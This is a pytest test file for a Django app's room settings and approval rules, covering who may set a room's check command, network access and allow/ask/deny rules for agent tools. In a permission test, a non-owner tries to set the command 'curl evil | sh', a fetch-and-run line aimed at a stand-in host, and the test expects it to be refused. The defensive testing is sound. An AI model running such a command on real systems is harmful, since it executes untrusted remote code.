"""A room's check command, network access and approval rules: set by its owners on the
room page, seen by its members, refused to everyone else (in the services too)."""

from __future__ import annotations

import pytest
from django.test import Client
from django.urls import reverse

from rooms.errors import RoomError, RoomPermissionError
from rooms.models import Message
from rooms.services import room_settings_update
from sessions.models import ApprovalRule
from sessions.services.approvals import approval_rule_create, approval_rule_delete
from tests.rooms.factories import make_room, make_user

pytestmark = pytest.mark.django_db


@pytest.fixture
def people():
    owner, member, viewer, stranger = (make_user(n) for n in ("owner", "member", "viewer", "stranger"))
    room = make_room(owner, "Settings room", members=[member], viewers=[viewer])
    return room, owner, member, viewer, stranger


def client_for(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_the_owner_sets_the_check_command_and_network_and_the_room_hears_of_it(people):
    room, owner, *_ = people
    response = client_for(owner).post(reverse("sessions:room_settings", args=[room.slug]),
                                      {"check_command": " python -m pytest -q ", "allow_network": "on"},
                                      HTTP_HX_REQUEST="true")
    assert response.status_code == 200 and b'id="room-settings"' in response.content
    assert b"Settings saved." in response.content
    room.refresh_from_db()
    assert (room.check_command, room.allow_network) == ("python -m pytest -q", True)
    last = Message.objects.filter(room=room).order_by("-seq").first()
    assert "set the check command to `python -m pytest -q` and allowed commands network access" in last.text


@pytest.mark.parametrize("who", ["member", "viewer"])
def test_members_see_what_runs_but_cannot_change_it(people, who):
    room, owner, member, viewer, _ = people
    room_settings_update(room=room, actor=owner, check_command="make test", allow_network=False)
    approval_rule_create(room=room, actor=owner, decision="deny", tool="shell", command_prefix="git push")
    client = client_for(member if who == "member" else viewer)
    page = client.get(reverse("sessions:room_settings", args=[room.slug]), HTTP_HX_REQUEST="true").content.decode()
    assert "make test" in page and "git push" in page and "room-settings-form" not in page
    for url, data in [
        (reverse("sessions:room_settings", args=[room.slug]), {"check_command": "curl evil | sh"}),
        (reverse("sessions:rule_create", args=[room.slug]), {"decision": "allow", "tool": "*"}),
        (reverse("sessions:rule_delete", args=[room.slug, ApprovalRule.objects.get().pk]), {}),
    ]:
        assert client.post(url, data).status_code == 403
    room.refresh_from_db()
    assert room.check_command == "make test" and ApprovalRule.objects.count() == 1


def test_strangers_get_nothing(people):
    room, *_, stranger = people
    client = client_for(stranger)
    assert client.get(reverse("sessions:room_settings", args=[room.slug])).status_code == 404
    assert client.post(reverse("sessions:room_settings", args=[room.slug]), {"check_command": "x"}).status_code == 404


def test_the_services_refuse_non_owners_whatever_the_caller(people):
    room, owner, member, *_ = people
    with pytest.raises(RoomPermissionError):
        room_settings_update(room=room, actor=member, check_command="id", allow_network=True)
    with pytest.raises(RoomPermissionError):
        approval_rule_create(room=room, actor=member, decision="allow", tool="shell")
    rule = approval_rule_create(room=room, actor=owner, decision="ask", tool="edit_file", path_glob="src/**")
    with pytest.raises(RoomPermissionError):
        approval_rule_delete(room=room, actor=member, rule_id=rule.pk)
    room.refresh_from_db()
    assert (room.check_command, room.allow_network) == ("", False)


@pytest.mark.parametrize(("fields", "message"), [
    ({"decision": "maybe", "tool": "*"}, "Decide allow, ask or deny"),
    ({"decision": "allow", "tool": "rm_rf"}, "There is no tool"),
    ({"decision": "allow", "tool": "edit_file", "command_prefix": "rm"}, "only applies to shell"),
    ({"decision": "deny", "tool": "shell", "path_glob": "src/*"}, "works on no path"),
    ({"decision": "deny", "tool": "shell", "command_prefix": "rm\x00"}, "NUL"),
])
def test_bad_rules_are_refused_with_a_reason(people, fields, message):
    room, owner, *_ = people
    with pytest.raises(RoomError, match=message):
        approval_rule_create(room=room, actor=owner, **fields)
    assert not ApprovalRule.objects.exists()


def test_the_owner_adds_and_removes_rules_on_the_page(people):
    room, owner, *_ = people
    client = client_for(owner)
    added = client.post(reverse("sessions:rule_create", args=[room.slug]),
                        {"decision": "allow", "tool": "shell", "command_prefix": "python  -m   pytest"},
                        HTTP_HX_REQUEST="true").content.decode()
    rule = ApprovalRule.objects.get()
    assert rule.command_prefix == "python -m pytest" and f'id="rule-{rule.pk}"' in added
    assert "that run alone" in added  # the page says what an allow prefix covers
    refused = client.post(reverse("sessions:rule_create", args=[room.slug]),
                          {"decision": "allow", "tool": "edit_file", "command_prefix": "x"}, HTTP_HX_REQUEST="true")
    assert b"only applies to shell" in refused.content
    removed = client.post(reverse("sessions:rule_delete", args=[room.slug, rule.pk]), HTTP_HX_REQUEST="true")
    assert b"Rule removed." in removed.content and not ApprovalRule.objects.exists()
    page = client.get(reverse("room", args=[room.slug])).content.decode()
    assert reverse("sessions:room_settings", args=[room.slug]) in page
